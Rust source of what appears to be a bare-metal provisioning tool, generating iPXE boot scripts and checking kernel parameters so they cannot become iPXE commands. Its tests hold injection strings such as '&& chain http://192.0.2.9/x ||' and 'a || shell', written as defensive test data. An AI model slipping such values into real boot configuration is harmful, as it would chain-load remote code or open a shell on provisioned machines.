//! Network boot: the ramdisk's kernel command line, and the iPXE script a machine gets for its MAC address. Pure text; served
//! by `api::boot`, and used by power drivers that load the ramdisk themselves.

use serde_json::{Map, Value};
use wire::Node;

use crate::controller::Config;
use crate::record::{BootDevice, Record};

/// The iPXE script of the machine with this MAC address.
pub fn script_url(advertise: &str, mac: &str) -> String {
    format!("{advertise}/boot/boot.ipxe?mac={}", hyphens(mac))
}

fn hyphens(mac: &str) -> String {
    mac.replace(':', "-")
}

/// The command line of the ramdisk's kernel. `extra` comes from the power driver.
pub fn command_line(config: &Config, node: &Node, mac: &str, extra: &[String]) -> String {
    let mut words = vec![
        // iPXE on UEFI passes the initramfs by this name; without it an old build's kernel finds none.
        "initrd=initramfs".to_owned(),
        // A root of the type tmpfs holds half of the memory, and the kernel cuts off what does not fit without stopping.
        "rootfstype=ramfs".into(),
        "console=tty0".into(),
        "console=ttyS0,115200n8".into(),
        format!("ipa-api-url={}", config.advertise),
    ];
    if !mac.is_empty() {
        words.push(format!("BOOTIF=01-{}", hyphens(mac)));
    }
    words.extend(extra.iter().cloned());
    let own = node.driver_info.get("kernel_append_params").and_then(Value::as_str).unwrap_or_default();
    for word in config.kernel_params.split_whitespace().chain(own.split_whitespace()) {
        // Checked when it was set; a node of an earlier version may have anything.
        match check_word(word) {
            Ok(()) => words.push(word.to_owned()),
            Err(problem) => {
                tracing::warn!(node = %node.label(), problem, "leaving a kernel parameter out");
            }
        }
    }
    words.join(" ")
}

/// Longest kernel parameters of a node, in bytes: x86 kernels read 2048 for the whole line.
const PARAMETERS_LIMIT: usize = 1536;

/// Checks more kernel parameters: they become part of a command in an iPXE script, and must stay its arguments. Words are
/// separated by spaces.
///
/// # Errors
/// Why they are refused, and what to do.
pub fn check_parameters(text: &str) -> Result<(), String> {
    if text.len() > PARAMETERS_LIMIT {
        return Err(format!("{} bytes are too many; the limit is {PARAMETERS_LIMIT}", text.len()));
    }
    if let Some(other) = text.chars().find(|letter| *letter != ' ' && !letter.is_ascii_graphic()) {
        return Err(format!(
            "the character {} is refused; give printable ASCII and separate parameters by spaces",
            other.escape_unicode()
        ));
    }
    text.split(' ').try_for_each(check_word)
}

/// What iPXE reads as the end of a command, as a comment, or as the name of a setting. Source: iPXE `core/exec.c`.
fn check_word(word: &str) -> Result<(), String> {
    let refused =
        |what: &str| Err(format!("{what} is refused in {word:?}: iPXE would read a command; leave it out"));
    match word {
        _ if word.contains("${") => refused("${"),
        _ if word.contains("&&") => refused("&&"),
        _ if word.contains("||") => refused("||"),
        ";" => refused("; as a word"),
        _ if word.starts_with('#') => refused("# at the start of a word"),
        _ if !word.bytes().all(|byte| byte.is_ascii_graphic()) => {
            refused("a character that is not printable ASCII")
        }
        _ => Ok(()),
    }
}

/// The script for a machine that did not say who it is: it asks again and says so.
pub fn who_are_you(advertise: &str) -> String {
    format!("#!ipxe\nchain --autofree {advertise}/boot/boot.ipxe?mac=${{netX/mac:hexhyp}} || shell\n")
}

/// The script for a machine no node knows: it says what to do, and lets the firmware go on.
pub fn stranger(mac: &str) -> String {
    format!(
        "#!ipxe\necho No node has a port with MAC address {mac}.\n\
         echo Make it known:  ferric port create NODE {mac}\nsleep 10\n{LOCAL_DISK}"
    )
}

/// UEFI goes on to the next boot entry; a BIOS is sent to its first disk.
const LOCAL_DISK: &str = "iseq ${platform} efi && exit || sanboot --no-describe --drive 0x80 || exit\n";

/// The script for a known machine: the ramdisk when it is to boot from the network, else its own disk.
pub fn script(config: &Config, record: &Record, mac: &str, extra: &[String]) -> String {
    let label = record.node.label();
    if record.boot == BootDevice::Disk {
        return format!("#!ipxe\necho Node {label} boots from its own disk.\n{LOCAL_DISK}");
    }
    let base = format!("{}/boot/{}", config.advertise, hyphens(mac));
    let line = command_line(config, &record.node, mac, extra);
    format!(
        "#!ipxe\necho Node {label} boots the Ferric ramdisk.\n\
         kernel {base}/kernel {line} || goto failed\n\
         initrd --name initramfs {base}/initramfs || goto failed\nboot || goto failed\n\
         :failed\necho The ramdisk could not be loaded from {base}; trying again.\nsleep 10\nreboot\n"
    )
}

/// A capability of `properties` or `instance_info`: an object, JSON text, or `key:value,key:value`.
pub fn capability(info: &Map<String, Value>, key: &str) -> Option<String> {
    let found = |object: &Map<String, Value>| object.get(key).and_then(Value::as_str).map(str::to_owned);
    match info.get("capabilities")? {
        Value::Object(object) => found(object),
        Value::String(text) => match serde_json::from_str::<Value>(text) {
            Ok(Value::Object(object)) => found(&object),
            Ok(_) | Err(_) => text
                .split(',')
                .filter_map(|pair| pair.split_once(':'))
                .find(|(name, _)| name.trim() == key)
                .map(|(_, value)| value.trim().to_owned()),
        },
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use serde_json::json;
    use uuid::Uuid;

    use super::*;

    fn config() -> Config {
        Config {
            state: "/s".into(),
            advertise: "http://10.0.2.2:6385".into(),
            ramdisk: None,
            images: vec![],
            heartbeat_timeout: 300,
            callback_timeout: None,
            enable_bios_bootloader_install: false,
            kernel_params: "quiet".into(),
            poll: Duration::from_secs(2),
            hosts: vec![],
            token: wire::Secret::new("x"),
        }
    }

    fn record(boot: BootDevice) -> Record {
        let mut node = Node::new(Uuid::from_u128(1), "qemu");
        node.name = Some("demo".into());
        node.driver_info.insert("kernel_append_params".into(), json!("ipa-debug=1"));
        Record { boot, ..Record::new(node) }
    }

    #[test]
    fn a_node_under_way_gets_the_ramdisk_with_its_parameters() {
        let extra = ["ipa-advertise-port=21999".to_owned()];
        let script = script(&config(), &record(BootDevice::Pxe), "52:54:00:00:00:01", &extra);
        assert!(script.starts_with("#!ipxe\n"));
        assert!(
            script.contains(
                "kernel http://10.0.2.2:6385/boot/52-54-00-00-00-01/kernel initrd=initramfs rootfstype=ramfs console=tty0 \
             console=ttyS0,115200n8 ipa-api-url=http://10.0.2.2:6385 BOOTIF=01-52-54-00-00-00-01 \
             ipa-advertise-port=21999 quiet ipa-debug=1 ||"
            ),
            "{script}"
        );
        assert!(
            script.contains("initrd --name initramfs http://10.0.2.2:6385/boot/52-54-00-00-00-01/initramfs")
        );
    }

    #[test]
    fn kernel_parameters_stay_parameters() {
        for fine in ["", "ipa-debug=1  quiet", "a=b;c d=#1 e='x'", "console=ttyS1,115200n8", "x=$y {z}"] {
            assert_eq!(check_parameters(fine), Ok(()), "{fine}");
        }
        let long = "x".repeat(PARAMETERS_LIMIT + 1);
        for bad in [
            "&& chain http://192.0.2.9/x ||",
            "a&&b",
            "ip=${net0/ip}",
            "a || shell",
            "a ; shell",
            "# b",
            "a\nshell",
            "a\rshell",
            "a\tb",
            "grün",
            &long,
        ] {
            assert!(check_parameters(bad).is_err(), "{bad}");
        }
        // Stored by an earlier version: what would be a command is left out.
        let mut old = record(BootDevice::Pxe);
        let text = "a=1 && chain http://192.0.2.9/x || b=${net0/ip}\nshell # c=2";
        old.node.driver_info.insert("kernel_append_params".into(), json!(text));
        let script = script(&config(), &old, "52:54:00:00:00:01", &[]);
        let line = script.lines().find(|line| line.starts_with("kernel ")).unwrap();
        assert!(line.ends_with("quiet a=1 chain http://192.0.2.9/x shell c=2 || goto failed"), "{line}");
        assert!(!script.contains("&&") && !script.contains("net0/ip"), "{script}");
    }

    #[test]
    fn a_deployed_node_is_sent_to_its_disk() {
        let script = script(&config(), &record(BootDevice::Disk), "52:54:00:00:00:01", &[]);
        assert!(
            script.contains("sanboot") && script.contains("exit") && !script.contains("kernel "),
            "{script}"
        );
    }

    #[test]
    fn capabilities_come_in_three_spellings() {
        for spelling in [
            json!({"boot_mode": "bios", "x": "y"}),
            json!(r#"{"boot_mode": "bios"}"#),
            json!("x:y, boot_mode:bios"),
        ] {
            let info = json!({ "capabilities": spelling });
            assert_eq!(capability(info.as_object().unwrap(), "boot_mode").as_deref(), Some("bios"));
        }
        assert_eq!(capability(&Map::new(), "boot_mode"), None);
    }
}
